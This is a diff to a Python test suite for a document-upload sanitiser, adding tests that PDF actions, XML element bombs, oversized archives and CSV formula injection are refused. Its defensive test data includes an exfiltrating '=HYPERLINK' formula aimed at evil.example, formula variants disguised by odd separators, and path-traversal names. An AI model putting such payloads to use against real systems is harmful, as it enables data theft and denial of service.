@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import settings as tries
 from hypothesis import strategies as some
 
-from upwell.files import documents, names, office, pdf
+from upwell.files import apart, documents, names, office, pdf
 from upwell.files.tests import papers
 
 EVERY = ("pdf", "document", "spreadsheet")
@@ -24,10 +24,17 @@ def refusal(data: bytes, accept: tuple[str, ...] = EVERY) -> type[documents.Cann
     return refused.type
 
 
+def refusal_here(data: bytes) -> type[documents.CannotTake]:
+    """In this process, where a test can change a limit."""
+    with pytest.raises(documents.CannotTake) as refused:
+        documents.read(data, documents.formats(EVERY))
+    return refused.type
+
+
 def outcome(data: bytes, accept: tuple[str, ...]) -> str:
     """The format it was taken as, or the words it was refused with. Whatever else is raised fails the test."""
     try:
-        return documents.clean(data, accept).format
+        return documents.read(data, documents.formats(accept)).format
     except documents.CannotTake as refused:
         return refused.__doc__ or ""
 
@@ -49,6 +56,31 @@ class TestAPdf:
         for word in (b"JavaScript", b"/Launch", b"/AA", b"/OpenAction", b"/XFA", b"EmbeddedFile", b"SOMEBODY"):
             assert word not in kept, word
         assert b"https://good.example/" in kept
+
+    def test_draws_nothing_from_another_file_and_does_nothing_that_is_not_known(self):
+        armed = papers.pdf(1, papers.armed_otherwise)
+        assert papers.unfolded(armed).count(b"EVIL") == 12
+
+        kept = papers.unfolded(documents.clean(armed, ("pdf",)).data)
+
+        assert b"EVIL" not in kept
+        for word in (b"/Ref", b"/Filespec", b"GoToDp", b"FutureAction", b"/FFilter"):
+            assert word not in kept, word
+
+    def test_keeps_what_only_looks_like_it(self):
+        kept = papers.unfolded(documents.clean(papers.pdf(1, papers.harmless), ("pdf",)).data)
+
+        for word in (
+            b"/S /P",
+            b"/O /Layout",
+            b"/S /Transparency",
+            b"/GoTo",
+            b"/F 4",
+            b"/Helvetica",
+            b"/Next",
+            b"/Title",
+        ):
+            assert word in kept, word
 
     def test_the_same_file_is_written_the_same_way(self):
         made = papers.pdf(2)
@@ -73,7 +105,7 @@ class TestAPdf:
         monkeypatch.setattr(documents, "MOST_PAGES", 2)
 
         with pytest.raises(documents.TooManyPages):
-            pdf.rewritten(papers.pdf(3))
+            pdf.clean(papers.pdf(3))
 
     def test_that_is_something_else_too_is_that_no_more(self):
         """A zip at the end of a PDF opens as either."""
@@ -91,7 +123,7 @@ class TestAPdf:
         assert refusal(papers.pdf(1, bomb)) is documents.Broken
 
     def test_that_takes_too_long_is_refused(self, monkeypatch):
-        monkeypatch.setattr(pdf, "SECONDS", 0.0005)
+        monkeypatch.setattr(apart, "SECONDS", 0.0005)
 
         assert refusal(papers.pdf(1)) is documents.Broken
 
@@ -169,14 +201,37 @@ class TestAnOfficeFile:
         bomb = papers.docx(word__media__a_dot_xml=b"0" * 2_000_000)
         assert len(bomb) < 10_000
 
+        assert refusal_here(bomb) is documents.Unfolds
+
+    def test_of_very_many_elements_is_refused_and_never_held(self, monkeypatch):
+        """The real size, and less memory than they would take: 95 KB that would be 24 million elements."""
+        monkeypatch.setattr(apart, "MEMORY", 300_000_000)
+        bomb = papers.odt(b"<a>" + b"<a/>" * 12_000_000 + b"</a>")
+        assert len(bomb) < 100_000
+
         assert refusal(bomb) is documents.Unfolds
+
+    @pytest.mark.parametrize(("limit", "most"), [("MOST_ELEMENTS", 10), ("MOST_XML", 50)])
+    def test_is_counted_over_all_its_parts(self, monkeypatch, limit, most):
+        """Of the words of one part and of its manifest, neither is too much alone."""
+        made = papers.odt(b"<a>" + b"<a/>" * 9 + b"</a>")
+        assert office.clean(made, {"odt"}).format == "odt"
+        monkeypatch.setattr(office, limit, most)
+
+        assert refusal_here(made) is documents.Unfolds
+
+    def test_with_an_element_longer_than_a_bite_is_refused(self):
+        names_of = b" ".join(b'a%d=""' % number for number in range(300_000))
+
+        assert refusal_here(papers.odt(b"<a " + names_of + b"/>")) is documents.Unfolds
+        assert office.clean(papers.odt(b"<a>" + b"long words " * 300_000 + b"</a>"), {"odt"}).format == "odt"
 
     def test_that_lies_about_its_size_is_refused_too(self, monkeypatch):
         monkeypatch.setattr(office, "MOST_UNFOLDED", 1_000_000)
         honest = papers.docx(word__a=b"0" * 2_000_000)
         lying = honest.replace((2_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
 
-        assert refusal(lying) in {documents.Unfolds, documents.Broken}
+        assert refusal_here(lying) in {documents.Unfolds, documents.Broken}
 
     @pytest.mark.parametrize("name", ["../../evil", "/etc/evil", "a\\b", "c:evil"])
     def test_whose_parts_lead_out_is_refused(self, name):
@@ -221,6 +276,33 @@ class TestAText:
     def test_a_table_with_formulas_is_refused(self, cell):
         assert refusal(f'Unit,Rent\n1,"{cell}"\n'.encode(), ("spreadsheet",)) is documents.HasFormulas
 
+    @pytest.mark.parametrize(
+        "lines",
+        [
+            'a;b;c\nx,=HYPERLINK("http://evil.example/?"&A1),y;2;3\n',
+            "a,b\nx\t=1+1,2\n",
+            "a,b\nx|=1+1,2\n",
+            "a,b\n=1+1,2\n".replace("=", "＝"),
+            'a,b\n"x;y","z;＋SUM(A1)"\n',
+            'a;b\n";"' + "x" * 140_000 + '",=1+1;c\n',
+            "a,b\nx, \t@SUM(A1)\n",
+        ],
+    )
+    def test_a_table_is_looked_at_with_every_mark_a_program_may_part_it_by(self, lines):
+        assert refusal(lines.encode(), ("spreadsheet",)) is documents.HasFormulas
+
+    def test_words_within_a_cell_are_no_formulas(self):
+        kept = documents.clean(b'Item,Note\n1,"Sofa, = large"\n2,a=b\n3,me@example.org\n', ("spreadsheet",))
+
+        assert kept.format == "csv"
+
+    def test_a_long_one_is_looked_at_as_well(self):
+        long = b"Item,Note\n" + b"1,sofa\n" * 200_000
+        assert len(long) > documents.LONG_TEXT
+
+        assert documents.clean(long, ("spreadsheet",)).data == long
+        assert refusal(long + b"2,=1+1\n", ("spreadsheet",)) is documents.HasFormulas
+
     def test_numbers_with_signs_are_no_formulas(self):
         assert documents.clean(b"Change,Phone\n-5,+1 408 555 0100\n", ("spreadsheet",)).format == "csv"
 
@@ -230,6 +312,13 @@ class TestAText:
     )
     def test_what_a_program_would_carry_out_is_no_text(self, data):
         assert refusal(data) is documents.OtherKind
+
+
+def test_a_file_that_takes_more_memory_than_it_may_ends_a_process_and_not_the_server(monkeypatch):
+    assert documents.clean(papers.odt(), EVERY).format == "odt"
+    monkeypatch.setattr(apart, "MEMORY", 1_000_000)
+
+    assert refusal(papers.odt()) is documents.Broken
 
 
 def test_what_is_not_asked_for_is_refused():
